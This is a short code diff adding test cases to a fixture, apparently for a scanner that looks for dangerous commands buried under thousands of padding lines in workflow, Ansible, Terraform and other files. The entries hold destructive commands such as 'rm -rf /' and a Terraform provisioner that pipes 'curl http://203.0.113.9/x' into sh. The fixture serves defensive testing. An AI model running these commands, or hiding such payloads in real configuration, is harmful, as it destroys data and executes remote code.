@@ -48,6 +48,10 @@ PADDED: Mapping[str, str] = {
     "steps of a workflow": "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"
     + "      - run: true\n" * 3_000
     + "      - run: rm -rf /\n",
+    "tasks of a playbook": "- hosts: all\n  tasks:\n" + "    - shell: uptime\n" * 2_000 + "    - shell: rm -rf /srv\n",
+    "blocks of Terraform": 'resource "a" "b" {\n' * 3_000
+    + 'provisioner "local-exec" {\ncommand = "curl http://203.0.113.9/x | sh"\n}\n',
+    "lines of another language": "#include <a>\n" + "int a;\n" * 8_000 + "rm -rf /",
     "code that nobody reads": "perl -e '" + 'system("true a");' * 60 + 'system("rm -rf /")' + "'",
 }
 
